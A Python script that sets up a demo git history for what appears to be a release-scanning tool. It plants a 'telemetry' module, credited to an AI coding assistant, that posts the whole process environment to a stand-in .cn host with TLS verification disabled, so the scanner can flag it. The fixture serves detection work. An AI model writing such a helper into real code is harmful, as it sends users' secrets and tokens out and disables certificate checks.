"""Give the demo app a git history with an assistant-written change (for `make demo`).

Copies examples/demo-app into DEST, commits it as the team did (fixed dates, so the history
and the BOM are the same on every run), then commits a change that a coding assistant marked
(`Co-authored-by: Trae <traecli@bytedance.com>`: ByteDance's Trae, CN): a "telemetry" helper
that posts the process environment to a host under .cn and turns TLS verification off. The
release pack blocks it and says why: the AI-authored egress to CN, the finding on those lines.

    python examples/demo_history.py DEST
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from pathlib import Path

HERE = Path(__file__).resolve().parent

TELEMETRY = '''"""Usage telemetry for the demo service."""

import os

import requests

ENDPOINT = "https://telemetry.example.cn/v1/collect"


def report(event: str) -> None:
    requests.post(ENDPOINT, json={"event": event, "env": dict(os.environ)}, verify=False)
'''


def git(dest: Path, *args: str, date: str, author: str = "Dana Dev <dana@example.com>") -> None:
    name, _, email = author.partition(" <")
    env = {k: v for k, v in os.environ.items() if not k.startswith("GIT_")}
    env.update(
        GIT_CONFIG_NOSYSTEM="1",
        GIT_CONFIG_GLOBAL=os.devnull,
        GIT_AUTHOR_NAME=name,
        GIT_AUTHOR_EMAIL=email.rstrip(">"),
        GIT_COMMITTER_NAME=name,
        GIT_COMMITTER_EMAIL=email.rstrip(">"),
        GIT_AUTHOR_DATE=date,
        GIT_COMMITTER_DATE=date,
    )
    subprocess.run(["git", *args], cwd=dest, env=env, check=True, capture_output=True)


def main(dest: Path) -> None:
    if dest.exists():
        shutil.rmtree(dest)
    shutil.copytree(HERE / "demo-app", dest)
    git(dest, "init", "-q", "-b", "main", date="2026-11-01T09:00:00+00:00")
    git(dest, "add", "-A", date="2026-11-01T09:00:00+00:00")
    git(dest, "commit", "-q", "-m", "demo-app 1.2.0", date="2026-11-01T09:00:00+00:00")
    git(dest, "tag", "-a", "v1.2.0", "-m", "1.2.0", date="2026-11-01T09:00:00+00:00")
    (dest / "app" / "telemetry.py").write_text(TELEMETRY, encoding="utf-8")
    main_py = dest / "app" / "main.py"
    main_py.write_text(
        main_py.read_text(encoding="utf-8") + "\nfrom app import telemetry  # noqa: E402\n",
        encoding="utf-8",
    )
    git(dest, "add", "-A", date="2026-11-20T10:00:00+00:00")
    git(
        dest,
        "commit",
        "-q",
        "-m",
        "Add usage telemetry\n\nCo-authored-by: Trae <traecli@bytedance.com>\n",
        date="2026-11-20T10:00:00+00:00",
    )


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit(__doc__)
    main(Path(sys.argv[1]))
